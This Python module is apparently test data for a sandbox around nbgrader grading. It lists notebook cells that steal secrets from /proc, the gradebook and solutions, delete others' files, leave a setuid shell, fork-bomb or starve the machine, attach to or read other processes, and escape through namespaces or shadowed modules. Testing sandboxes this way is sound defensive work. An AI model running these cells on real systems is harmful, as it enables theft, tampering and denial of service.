"""Attacks of distinct mechanism, as data: what a student's notebook might try.

A cell of an attack prints ``$marker`` once it has got what it must not have; some harm is seen
only from outside (`Attack.harm`). ``$name`` in a cell stands for a place of the attacked world
(`world.World.names`). Every attack is written to work against stock nbgrader, whose kernels have
the instructor's rights (``stock``); ``root`` marks those that need stock to run as root.

`tests.grading.attacks.forgeries` has those that aim at the score.
"""

from __future__ import annotations

import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.grading.attacks.world import World

MIB = 2**20


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name, mechanism : str
        A short name, and in words what it does.
    cells : tuple of str
        Sources, run in order.
    harm : callable, optional
        Whether it can be seen from outside, after the kernel's end, that the attack has worked.
    files : dict of str to str
        Handed in beside the notebook.
    limits : dict
        Fields of ``Limits`` that make the attack cheap to run.
    stock, root : bool
        Whether it works against stock nbgrader; whether only where that runs as root.
    """

    name: str
    mechanism: str
    cells: tuple[str, ...]
    harm: Callable[[World], bool] | None = None
    files: dict[str, str] = field(default_factory=dict)
    limits: dict[str, Any] = field(default_factory=dict)
    stock: bool = True
    root: bool = False


# --- what can be seen of a folder afterwards ---


def has_kind(test: Callable[[int], bool]) -> Callable[[World], bool]:
    """Whether an entry of a kind (a link, a pipe, ...) lies in the attacker's folder."""
    return lambda world: any(test(path.lstat().st_mode) for path in world.folder.rglob("*"))


def has_secret(world: World) -> bool:
    """Whether a file in the attacker's folder now says what must not be seen."""
    files = [path for path in world.folder.rglob("*") if path.is_file()]
    return any(world.secret.encode() in path.read_bytes() for path in files)


def has_odd_name(world: World) -> bool:
    """Whether a name in the attacker's folder could command a terminal or break a listing."""
    return any(not path.name.isprintable() for path in world.folder.rglob("*"))


def has_giant(world: World) -> bool:
    """Whether a file in the attacker's folder claims more than a gigabyte."""
    return any(path.lstat().st_size > 2**30 for path in world.folder.rglob("*"))


def has_set_user_id(world: World) -> bool:
    """Whether a program in the attacker's folder would run with its owner's rights."""
    return any(path.lstat().st_mode & 0o7000 for path in world.folder.rglob("*"))


def is_deep(world: World) -> bool:
    """Whether folders lie in each other beyond what Python's own tools can walk."""
    folder = world.folder / "d"
    for _ in range(300):
        folder = folder / "d"
    return folder.exists()


def has_file(name: str) -> Callable[[World], bool]:
    """Whether a file of that name lies in the attacker's folder."""
    return lambda world: (world.folder / name).exists()


def has_many(world: World) -> bool:
    """Whether the attacker's folder holds more files than anybody hands in."""
    return sum(1 for _ in world.folder.iterdir()) > 15_000


def leaves(path: str) -> Callable[[World], bool]:
    """Whether a file is there on the host; it is taken away again."""

    def harm(world: World) -> bool:
        file = Path(path.replace("$tag", world.names["tag"]))
        there = file.exists()
        file.unlink(missing_ok=True)
        return there

    return harm


def touched(world: World) -> bool:
    """Whether anything out of bounds was changed."""
    return not world.untouched()


def lives_on(world: World) -> bool:
    """Whether a process of the attack is still there."""
    return bool(world.left_processes())


def heard(world: World) -> bool:
    """Whether anything reached the doors."""
    return bool(world.heard)


def reached_terminal(world: World) -> bool:
    """Whether the attack wrote to what stands for the grader's terminal."""
    return world.names["tag"].encode() in world.terminal.read_bytes()


# --- read what is not theirs ---

_SHOW = "print('$marker') if '$secret_part' in ({}) else print('no')"
_LIBC = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\n"

READING = [
    Attack(
        "read-gradebook",
        "opens the gradebook",
        (_SHOW.format("open('$gradebook').read()"),),
    ),
    Attack(
        "read-solution",
        "opens the source notebook with the answers",
        (_SHOW.format("open('$source').read()"),),
    ),
    Attack(
        "read-neighbour",
        "walks up from its own folder and down into another's",
        (
            "import pathlib\nbeside = pathlib.Path('$beside').glob('*.txt')\n"
            "found = [path.read_text() for path in beside]\n" + _SHOW.format("' '.join(found)"),
        ),
    ),
    Attack(
        "read-home",
        "reads the instructor's home",
        (_SHOW.format("open('$home/notes.txt').read()"),),
    ),
    Attack(
        "read-kernel-keys",
        "reads another kernel's connection file, to sign messages to it",
        ("import json\n" + _SHOW.format("json.load(open('$home/kernel-1.json'))['key']"),),
    ),
    Attack(
        "read-environment-of-others",
        "reads /proc/*/environ of all processes it can see",
        (
            "import glob\nfound = b''\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
            "    try: found += open(path, 'rb').read()\n    except OSError: pass\n"
            + _SHOW.format("found.decode(errors='replace')"),
        ),
    ),
    Attack(
        "read-own-environment",
        "reads a secret that the grader has in its environment",
        ("import os\n" + _SHOW.format("os.environ.get('$environment_name', '')"),),
    ),
    Attack(
        "read-through-proc-root",
        "goes through /proc/PID/root of other processes, past its own root",
        (
            "import glob\nfound = ''\nfor root in glob.glob('/proc/[0-9]*/root'):\n"
            "    try: found += open(root + '$gradebook').read()\n    except OSError: pass\n"
            + _SHOW.format("found"),
        ),
    ),
    Attack(
        "read-memory-of-others",
        "opens the memory of another process (/proc/PID/mem)",
        ("open('/proc/$victim/mem', 'rb').close(); print('$marker')",),
    ),
    Attack(
        "see-processes",
        "finds the grader's processes",
        ("import os; print('$marker') if os.path.exists('/proc/$victim') else None",),
    ),
    Attack(
        "see-host-network",
        "lists the host's network devices",
        (
            "import socket\nnames = {name for _, name in socket.if_nameindex()}\n"
            "print('$marker') if names - {'lo'} else None",
        ),
    ),
    Attack(
        "link-to-solution",
        "leaves a symbolic link that whoever copies the folder follows",
        ("import os; os.symlink('$source', 'answer.txt')",),
        has_kind(stat.S_ISLNK),
    ),
    Attack(
        "hard-link-to-gradebook",
        "gives the gradebook a second name in its own folder",
        ("import os; os.link('$gradebook', 'notes.txt')",),
        has_secret,
    ),
    Attack(
        "read-raw-disk",
        "reads the disk under the file system",
        (
            "import os, stat\nfor name in os.listdir('/dev'):\n    path = '/dev/' + name\n"
            "    if stat.S_ISBLK(os.stat(path).st_mode) and not name.startswith(('loop', 'ram')):\n"
            "        if open(path, 'rb').read(512): print('$marker'); break",
        ),
        root=True,
    ),
]

# --- write what is not theirs ---

WRITING = [
    Attack(
        "write-gradebook",
        "changes the gradebook",
        ("open('$gradebook', 'a').write('100')",),
        touched,
    ),
    Attack(
        "delete-gradebook",
        "deletes the gradebook",
        ("import os; os.unlink('$gradebook')",),
        touched,
    ),
    Attack(
        "write-neighbour",
        "spoils another's submission",
        ("open('$neighbour/answer.txt', 'w').write('wrong')",),
        touched,
    ),
    Attack(
        "delete-neighbour",
        "deletes another's folder, by a path from its own",
        ("import shutil; shutil.rmtree('$beside')",),
        touched,
    ),
    Attack(
        "plant-startup-file",
        "leaves a file in the home that every later kernel of the grader's would run",
        (
            "import os; os.makedirs('$home/.ipython', exist_ok=True)\n"
            "open('$home/.ipython/first.py', 'w').write('pass')",
        ),
        touched,
    ),
    Attack(
        "plant-in-course",
        "makes a new file in the course folder, as a configuration that nbgrader would load",
        ("open('$planted', 'w').write('c = get_config()')",),
        touched,
    ),
    Attack(
        "plant-in-site-packages",
        "leaves a file that every later Python would run at its start",
        (
            "import sysconfig, os\n"
            "path = os.path.join(sysconfig.get_path('purelib'), '$tag.txt')\n"
            "open(path, 'w').write('stands for a .pth'); os.unlink(path); print('$marker')",
        ),
    ),
    Attack(
        "make-gradebook-unreadable",
        "takes the gradebook's permissions away",
        ("import os; os.chmod('$gradebook', 0o600); print('$marker')",),
    ),
    Attack(
        "write-through-proc-cwd",
        "writes into the folder that another process works in",
        ("open('/proc/$victim/root$planted', 'w').write('x')",),
        touched,
    ),
    Attack(
        "open-kernel-settings",
        "opens the host kernel's settings for writing",
        ("open('/proc/sys/kernel/core_pattern', 'r+').close(); print('$marker')",),
        root=True,
    ),
    Attack(
        "make-device",
        "makes a device file for the disk",
        ("import os, stat; os.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(8, 0))",),
        has_kind(stat.S_ISBLK),
        root=True,
    ),
]

# --- leave something behind in the folder ---

LEAVING = [
    Attack(
        "leave-pipe",
        "leaves a named pipe, on which the next reader waits for ever",
        ("import os; os.mkfifo('data.csv')",),
        has_kind(stat.S_ISFIFO),
    ),
    Attack(
        "leave-socket",
        "leaves a socket in the folder",
        ("import socket; socket.socket(socket.AF_UNIX).bind('door')",),
        has_kind(stat.S_ISSOCK),
    ),
    Attack(
        "leave-escape-in-name",
        "leaves a file whose name commands the terminal that lists it",
        ("open('\\x1b]0;owned\\x07\\n.txt', 'w').close()",),
        has_odd_name,
    ),
    Attack(
        "leave-set-user-id",
        "leaves a shell that runs with its owner's rights",
        ("import shutil, os; shutil.copy('/bin/sh', 'sh'); os.chmod('sh', 0o4755)",),
        has_set_user_id,
    ),
    Attack(
        "leave-giant",
        "leaves a file that claims a terabyte and takes none",
        ("with open('big', 'wb') as file: file.truncate(2**40)",),
        has_giant,
    ),
    Attack(
        "leave-thousands",
        "leaves more files than any tool wants to walk",
        ("for number in range(16000): open(f'{number}.txt', 'w').close()",),
        has_many,
    ),
    Attack(
        "leave-deep-folders",
        "leaves folders so deep that a recursive copy breaks",
        ("import os\nfor _ in range(400): os.mkdir('d'); os.chdir('d')",),
        is_deep,
    ),
    Attack(
        "leave-in-tmp",
        "leaves a file in the host's temporary folder",
        ("open('/tmp/$tag', 'w').close()",),
        leaves("/tmp/$tag"),
    ),
    Attack(
        "leave-shared-memory",
        "leaves a segment of shared memory that outlives it",
        ("open('/dev/shm/$tag', 'wb').write(bytes(2**20))",),
        leaves("/dev/shm/$tag"),
    ),
]

# --- starve the machine ---

STARVING = [
    Attack(
        "eat-memory",
        "takes memory until there is none",
        (
            "held = []\nwhile len(held) < 24: held.append(bytearray(64 * 2**20))",
            "print('$marker') if len(held) >= 24 else None",
        ),
        limits={"memory_bytes": 1024 * MIB},
    ),
    Attack(
        "eat-memory-together",
        "takes memory with many processes, each below the limit of one",
        (
            "import os, time\nread, write = os.pipe()\nfor _ in range(6):\n"
            "    if os.fork() == 0:\n        held = bytearray(b'x') * (300 * 2**20)\n"
            "        os.write(write, b'1'); time.sleep(4); os._exit(0)\n"
            "os.close(write); time.sleep(3)\n"
            "got = b''.join(os.read(read, 1) for _ in range(6))\n"
            "print('$marker') if len(got) == 6 else None",
        ),
        limits={"memory_bytes": 1024 * MIB},
    ),
    Attack(
        "eat-memory-by-descriptors",
        "fills files that exist in memory only (memfd), which no limit of a process counts",
        (
            "import os\nfor _ in range(20):\n    number = os.memfd_create('x')\n"
            "    os.write(number, bytes(2**20))\nprint('$marker')",
        ),
    ),
    Attack(
        "eat-system-v-memory",
        "makes System V shared memory, which outlives its process",
        (
            _LIBC + "number = libc.shmget(0, 2**20, 0o1600)\n"
            "if number >= 0: libc.shmctl(number, 0, None); print('$marker')",
        ),
    ),
    Attack(
        "fork-bomb",
        "starts processes until none can be started",
        (
            "import os, signal, time\nchildren = []\ntry:\n    for _ in range(200):\n"
            "        child = os.fork()\n        if child == 0: time.sleep(20); os._exit(0)\n"
            "        children.append(child)\nexcept BlockingIOError: pass\n"
            "for child in children: os.kill(child, 9); os.waitpid(child, 0)\n"
            "print('$marker') if len(children) == 200 else print(len(children))",
        ),
        limits={"processes": 100},
    ),
    Attack(
        "thread-bomb",
        "starts threads until none can be started",
        (
            "import threading\nstop = threading.Event()\nthreads = []\ntry:\n"
            "    for _ in range(300):\n"
            "        thread = threading.Thread(target=stop.wait)\n"
            "        thread.start()\n        threads.append(thread)\n"
            "except RuntimeError: pass\nstop.set()\n"
            "print('$marker') if len(threads) == 300 else print(len(threads))",
        ),
        limits={"processes": 100},
    ),
    Attack(
        "burn-processor",
        "computes on and on in one cell",
        ("import time\nwhile time.process_time() < 5: pass\nprint('$marker')",),
        limits={"cpu_seconds": 2},
    ),
    Attack(
        "burn-processor-together",
        "computes in one short process after the other, each below the limit of one",
        (
            "import os, time\nfor _ in range(12):\n    child = os.fork()\n    if child == 0:\n"
            "        while time.process_time() < 0.7: pass\n        os._exit(0)\n"
            "    os.waitpid(child, 0)\nprint('$marker')",
        ),
        limits={"cpu_seconds": 4},
    ),
    Attack(
        "fill-disk",
        "writes files until the disk is full",
        (
            "block = bytes(2**20)\nfor number in range(8):\n"
            "    with open(f'part{number}', 'wb') as file:\n"
            "        for _ in range(8): file.write(block)\n"
            "print('$marker')",
        ),
        limits={"disk_bytes": 32 * MIB},
    ),
    Attack(
        "fill-temporary-folder",
        "fills the temporary folder",
        (
            "import os, tempfile\nwith tempfile.TemporaryFile(dir='/tmp') as file:\n"
            "    for _ in range(64): file.write(bytes(2**20))\n    file.flush()\nprint('$marker')",
        ),
        limits={"disk_bytes": 32 * MIB},
    ),
    Attack(
        "one-large-file",
        "writes one file without end",
        (
            "with open('large', 'wb') as file:\n    for _ in range(32): file.write(bytes(2**20))\n"
            "print('$marker')",
        ),
        limits={"file_bytes": 8 * MIB},
    ),
    Attack(
        "eat-inodes",
        "makes empty files, which take no bytes but memory of the kernel's",
        (
            "import time\nfor number in range(60000): open(f'/tmp/$tag-{number}', 'w').close()\n"
            "time.sleep(1)\nimport os\n"
            "for number in range(60000): os.unlink(f'/tmp/$tag-{number}')\n"
            "print('$marker')",
        ),
    ),
    Attack(
        "eat-descriptors",
        "opens more files than the system's common stock allows to one",
        (
            "import os, resource\nhard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n"
            "resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\n"
            "held = [os.open('/dev/null', 0) for _ in range(min(hard, 3000) - 100)]\n"
            "print('$marker') if len(held) > 2000 else None\nfor number in held: os.close(number)",
        ),
    ),
]

# --- escape, or live on ---

ESCAPING = [
    Attack(
        "daemon",
        "leaves a process behind that detaches itself",
        (
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)', '$tag'],\n"
            "                 start_new_session=True)",
        ),
        lives_on,
    ),
    Attack(
        "stubborn-orphan",
        "leaves an orphan that ignores every signal it can",
        (
            "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        code = ('import signal, time\\n'\n"
            "                'for n in range(1, 32):\\n'\n"
            "                '    if n not in (9, 19): signal.signal(n, signal.SIG_IGN)\\n'\n"
            "                'time.sleep(900)')\n"
            "        os.execv('/proc/self/exe', ['python', '-S', '-c', code, '$tag'])\n"
            "    os._exit(0)\nimport time; time.sleep(0.5)",
        ),
        lives_on,
    ),
    Attack(
        "kill-other-process",
        "ends a process of the grader's",
        ("import os; os.kill($victim, 9)",),
        touched,
    ),
    Attack(
        "trace-other-process",
        "attaches to a process of the grader's as a debugger does",
        (_LIBC + "if libc.ptrace(0x4206, $victim, 0, 0) == 0: print('$marker')",),
    ),
    Attack(
        "read-by-process-vm",
        "reads another process's memory with process_vm_readv",
        (
            _LIBC + "class Part(ctypes.Structure):\n"
            "    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
            "maps = open('/proc/$victim/maps').read().split('\\n')\n"
            "start = int(next(line for line in maps if ' r' in line).split('-')[0], 16)\n"
            "box = ctypes.create_string_buffer(16)\n"
            "here, there = map(ctypes.byref, (Part(ctypes.addressof(box), 16), Part(start, 16)))\n"
            "got = libc.process_vm_readv($victim, here, 1, there, 1, 0)\n"
            "print('$marker') if got == 16 else None",
        ),
    ),
    Attack(
        "take-descriptor",
        "takes an open file out of another process (pidfd_getfd)",
        (
            _LIBC + "process = libc.syscall(434, $victim, 0)\n"
            "if libc.syscall(438, process, 0, 0) >= 0: print('$marker')",
        ),
    ),
    Attack(
        "new-user-namespace",
        "becomes root of a new user namespace, the usual way to the kernel's weak spots",
        (
            "import os\nif os.fork() == 0:\n    import ctypes\n"
            "    os._exit(0 if ctypes.CDLL(None).unshare(0x10000000) == 0 else 1)\n"
            "print('$marker') if os.waitstatus_to_exitcode(os.wait()[1]) == 0 else None",
        ),
    ),
    Attack(
        "clone-user-namespace",
        "makes a process in a new user namespace, without unshare",
        (
            "import ctypes, os, platform\nlibc = ctypes.CDLL(None)\n"
            "call = {'x86_64': 56, 'aarch64': 220}[platform.machine()]\n"
            "child = libc.syscall(call, 0x10000000 | 17, 0, 0, 0, 0)\n"
            "if child == 0: libc._exit(0)\n"
            "if child > 0: os.waitpid(child, 0); print('$marker')",
        ),
    ),
    Attack(
        "enter-namespace",
        "enters the namespaces of another process",
        (
            _LIBC + "number = os.open('/proc/$victim/ns/uts', os.O_RDONLY)\n"
            "if os.fork() == 0: os._exit(0 if libc.setns(number, 0) == 0 else 1)\n"
            "print('$marker') if os.waitstatus_to_exitcode(os.wait()[1]) == 0 else None",
        ),
        root=True,
    ),
    Attack(
        "connect-local-port",
        "talks to a server on the host's loopback",
        (
            "import socket\nsaid = socket.create_connection(('127.0.0.1', $port), 3).recv(99)\n"
            + _SHOW.format("said.decode()"),
        ),
        heard,
    ),
    Attack(
        "send-datagram",
        "sends the submission's contents out, without a connection",
        (
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
            ".sendto('$marker'.encode(), ('127.0.0.1', $datagrams))\nimport time; time.sleep(0.3)",
        ),
        heard,
    ),
    Attack(
        "connect-parent-socket",
        "talks to a socket of the grader's in the file system",
        (
            "import socket\ndoor = socket.socket(socket.AF_UNIX); door.connect('$socket')\n"
            + _SHOW.format("door.recv(99).decode()"),
        ),
        heard,
    ),
    Attack(
        "connect-abstract-socket",
        "talks to a socket of the grader's that has a name but no file",
        (
            "import socket\ndoor = socket.socket(socket.AF_UNIX); door.connect('\\x00$abstract')\n"
            + _SHOW.format("door.recv(99).decode()"),
        ),
        heard,
    ),
    Attack(
        "keys",
        "puts a key into the host's keyring, where it outlives the kernel",
        (
            _LIBC + "call, unlink = {'x86_64': (248, 250), 'aarch64': (217, 219)}"
            "[__import__('platform').machine()]\n"
            "key = libc.syscall(call, b'user', b'$tag', b'x', 1, -3)\n"
            "if key > 0: libc.syscall(unlink, 3, key); print('$marker')",
        ),
    ),
    Attack(
        "user-fault",
        "takes over page faults (userfaultfd), a common part of kernel exploits",
        (
            _LIBC + "call = {'x86_64': 323, 'aarch64': 282}[__import__('platform').machine()]\n"
            "number = libc.syscall(call, 1)\n"
            "if number >= 0: os.close(number); print('$marker')",
        ),
        root=True,
    ),
    Attack(
        "raise-limits",
        "takes its own limits away",
        (
            "import resource\nfor kind in (resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):\n"
            "    resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)\nprint('$marker')",
        ),
    ),
    Attack(
        "terminal-escapes",
        "writes to the terminal under the grader, past the kernel's capture of outputs",
        (
            "import os, sys\nfor number in range(256):\n"
            "    try:\n        kept = os.readlink(f'/proc/self/fd/{number}')\n"
            "        if kept in ('$terminal', '/tmp/.words (deleted)'):\n"
            "            os.write(number, '\x1b]0;$tag\x07'.encode())\n"
            "    except OSError: pass",
        ),
        reached_terminal,
    ),
    Attack(
        "shadow-launcher",
        "hands in a module with the kernel's own name, which is run instead of it",
        ("import os; print(os.path.exists('shadowed'))",),
        has_file("shadowed"),
        files={
            "ipykernel_launcher.py": "open('shadowed', 'w').close()\n"
            "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
        },
    ),
    Attack(
        "shadow-standard-module",
        "hands in a module that Python itself imports while it starts the kernel",
        ("import os; print(os.path.exists('shadowed'))",),
        has_file("shadowed"),
        files={
            "pkgutil.py": "import sys, os, importlib.util, sysconfig\n"
            "open('shadowed', 'w').close()\n"
            "path = os.path.join(sysconfig.get_path('stdlib'), 'pkgutil.py')\n"
            "spec = importlib.util.spec_from_file_location('pkgutil', path)\n"
            "spec.loader.exec_module(sys.modules['pkgutil'])\n"
        },
    ),
]

# Not attacks on stock nbgrader, but on the sandbox itself: outside one, these cells do nothing.
_INSIDE = "import os\nassert os.path.isdir('/submission')\n"
ON_THE_SANDBOX = [
    Attack(
        "signal-first-process",
        "sends every signal to the first process inside",
        (
            _INSIDE + "import time\nfor number in range(1, 32):\n    if number != 19:\n"
            "        try: os.kill(1, number)\n        except OSError: pass\ntime.sleep(0.3)",
            "print('alive')",
        ),
        stock=False,
    ),
    Attack(
        "look-into-first-process",
        "reads what the first process inside has open",
        (
            _INSIDE + "import glob\nprint('$marker') if glob.glob('/proc/1/fd/*') else None",
            _INSIDE + "open('/proc/1/environ', 'rb').read(); print('$marker')",
            _INSIDE + "open('/proc/1/mem', 'rb').read(0); print('$marker')",
        ),
        stock=False,
    ),
    Attack(
        "write-root",
        "makes files in the sandbox's own root",
        (
            _INSIDE + "for path in ('/x', '/etc/x', '/dev/x', '/srv/x', '/opt/x', '/run/x'):\n"
            "    try: open(path, 'w').close(); print('$marker')\n    except OSError: pass",
        ),
        stock=False,
    ),
    Attack(
        "remount",
        "mounts the root again, writable",
        (
            _INSIDE + _LIBC + "for flags in (32, 32 | 4096):\n"
            "    if libc.mount(None, b'/', None, flags, None) == 0: print('$marker')",
        ),
        stock=False,
    ),
]

ATTACKS = [*READING, *WRITING, *LEAVING, *STARVING, *ESCAPING, *ON_THE_SANDBOX]
